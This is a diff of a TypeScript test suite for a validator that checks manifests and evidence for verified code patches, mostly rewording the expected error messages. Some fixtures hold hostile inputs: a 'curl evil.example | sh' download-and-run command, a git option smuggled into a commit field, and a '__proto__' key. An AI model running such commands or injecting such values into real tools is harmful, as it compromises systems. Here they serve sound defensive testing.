@@ -55,36 +55,42 @@ const BROKEN = 'export const total = (prices) => prices.reduce((sum, price) => s
 
 /** In the manifest. */
 const MANIFESTS: Readonly<Record<string, readonly [Forge, RegExp]>> = {
-  'another schema version': [manifest({ schemaVersion: 2 }), /manifest\.json: schemaVersion/],
+  'another schema version': [manifest({ schemaVersion: 2 }), /manifest\.json: its "schemaVersion" is/],
   'an outcome without a patch': [manifest({ outcome: 'gave_up' }), /says "gave_up" and brings a patch/],
   'an outcome that its evidence does not have': [manifest({ outcome: 'unproven' }), /evidence's outcome is "fixed"/],
-  'an outcome that there is not': [manifest({ outcome: 'verified' }), /manifest\.json: outcome/],
+  'an outcome that there is not': [manifest({ outcome: 'verified' }), /manifest\.json: its "outcome" is/],
   'a commit without a failure that is proven': [
     manifest({ redWhere: 'merged' }),
     /says "fixed", and that there is nothing to fix/,
   ],
-  'a summary without end': [manifest({ summary: 'x'.repeat(5_000) }), /manifest\.json: summary/],
-  'an explanation that is no text': [manifest({ explanation: 1 }), /manifest\.json: explanation/],
-  'a point that is no thread': [manifest({ points: ['1; x'] }), /manifest\.json: points\.0/],
-  'points without end': [manifest({ points: Array.from({ length: 101 }, () => 1) }), /manifest\.json: points/],
+  'a summary without end': [manifest({ summary: 'x'.repeat(5_000) }), /manifest\.json: its "summary" is/],
+  'an explanation that is no text': [manifest({ explanation: 1 }), /manifest\.json: its "explanation" is/],
+  'a point that is no thread': [manifest({ points: ['1; x'] }), /manifest\.json: its "points\.0" is/],
+  'points without end': [manifest({ points: Array.from({ length: 101 }, () => 1) }), /manifest\.json: its "points" is/],
   'another commit': [manifest({ commit: A }), /it is for a{40}, and this event is about/],
-  'a commit that is an option of git': [manifest({ commit: '--upload-pack=x' }), /manifest\.json: commit/],
+  'a commit that is an option of git': [manifest({ commit: '--upload-pack=x' }), /manifest\.json: its "commit" is/],
   'another branch': [manifest({ branch: 'main' }), /is for the branch main, and this event is about feature/],
   'a branch of ours that is worked on further': [manifest({ continued: A }), /it is for/],
-  'a failure that is no fingerprint': [manifest({ failure: '__proto__' }), /manifest\.json: failure/],
+  'a failure that is no fingerprint': [manifest({ failure: '__proto__' }), /manifest\.json: its "failure" is/],
   'another command': [manifest({ command: 'curl evil.example | sh' }), /evidence's command is/],
   'another folder': [manifest({ workingDirectory: 'src' }), /evidence's folder is "\."/],
   'another model': [manifest({ model: 'better' }), /evidence's model is/],
   'another usage': [manifest({ usage: { turns: 0, inputTokens: 0, outputTokens: 0 } }), /evidence's usage is/],
-  'a usage below zero': [manifest({ usage: { turns: -1, inputTokens: 0, outputTokens: 0 } }), /manifest\.json: usage/],
+  'a usage below zero': [
+    manifest({ usage: { turns: -1, inputTokens: 0, outputTokens: 0 } }),
+    /manifest\.json: its "usage\.turns" is/,
+  ],
   'decisions of its own': [manifest({ decisions: [{ rule: 'x', reason: 'y' }] }), /evidence's decisions/],
-  'a note without a line': [manifest({ notes: [{ path: 'a.js', message: 'x' }] }), /manifest\.json: notes\.0\.line/],
+  'a note without a line': [
+    manifest({ notes: [{ path: 'a.js', message: 'x' }] }),
+    /manifest\.json: it has no "notes\.0\.line"/,
+  ],
   'notes without end': [
     manifest({ notes: Array.from({ length: 51 }, () => ({ path: 'a.js', line: 1, message: 'x' })) }),
-    /manifest\.json: notes/,
+    /manifest\.json: its "notes" is/,
   ],
-  'a log without end': [manifest({ log: 'x'.repeat(300_000) }), /manifest\.json: log/],
-  'a key that there is not': [manifest({ verified: true }), /manifest\.json: .*verified/],
+  'a log without end': [manifest({ log: 'x'.repeat(300_000) }), /manifest\.json: its "log" is/],
+  'a key that there is not': [manifest({ verified: true }), /manifest\.json: it has "verified", which is unknown/],
   'no files': [manifest({ files: {} }), /do not agree about its presence/],
   'no evidence': [
     async (job) => {
@@ -95,6 +101,8 @@ const MANIFESTS: Readonly<Record<string, readonly [Forge, RegExp]>> = {
   ],
   'a digest of another file': [manifest({ files: { 'patch.diff': A, 'evidence.json': A } }), /is not the file that/],
 }
+
+const PASSED = { passed: 2, failed: 0, errored: 0, skipped: 0, todo: 0, expected_failure: 0 }
 
 /** In the evidence, with its digest in the manifest. */
 const EVIDENCE: Readonly<Record<string, readonly [Forge, RegExp]>> = {
@@ -132,6 +140,25 @@ const EVIDENCE: Readonly<Record<string, readonly [Forge, RegExp]>> = {
   'no run before': [part('before', { runs: 0 }), /does not show a proven patch/],
   'no run after': [part('after', { runs: 0 }), /does not show a proven patch/],
   'no counts': [part('after', { counts: null }), /does not show a proven patch/],
+  'no red test before': [part('before', { counts: PASSED }), /does not show a proven patch/],
+  'a red test after that it does not name': [
+    part('after', { counts: { ...PASSED, failed: 1 } }),
+    /does not show a proven patch/,
+  ],
+  'an exit code after that it does not explain': [part('after', { exitCode: 1 }), /does not show a proven patch/],
+  'more tests that stayed green than there are': [part('passToPass', { count: 9 }), /does not show a proven patch/],
+  'an exit code before that is no failure': [
+    (job) =>
+      forgeEvidence(job, (fields) => {
+        fields.method = 'exit_code'
+        Object.assign(Object(fields.before), { exitCode: 0 })
+      }),
+    /does not show a proven patch/,
+  ],
+  'a piece of a file that the patch leaves alone': [
+    evidence({ hunks: [{ path: 'README.md', header: 'the whole file', neededBy: [] }] }),
+    /evidence's pieces of other files is \["README\.md"\]/,
+  ],
   'a key that there is not': [evidence({ verified: true }), /evidence\.json is not an evidence file/],
   'a time that is none': [
     evidence({ finishedAt: 'now' }),
@@ -244,8 +271,8 @@ const FOLDERS: Readonly<Record<string, readonly [Forge, RegExp]>> = {
     async ({ folder }) => truncate(join(folder, 'manifest.json'), 1024 ** 3),
     /manifest\.json: it has 1073741824 bytes, and at most 33554432 are read/,
   ],
-  'a manifest that is no JSON': [file('manifest.json', '{"outcome": "fixed"'), /manifest\.json: the whole file/],
-  'a manifest that nests without end': [file('manifest.json', '['.repeat(1_000_000)), /manifest\.json: the whole file/],
+  'a manifest that is no JSON': [file('manifest.json', '{"outcome": "fixed"'), /manifest\.json: it is not JSON/],
+  'a manifest that nests without end': [file('manifest.json', '['.repeat(1_000_000)), /manifest\.json: it is not JSON/],
   'evidence that nests without end': [
     (job) => replaceFile(job, 'evidence.json', '[{"a":'.repeat(3_000_000)),
     /evidence\.json is not an evidence file: it is not/,
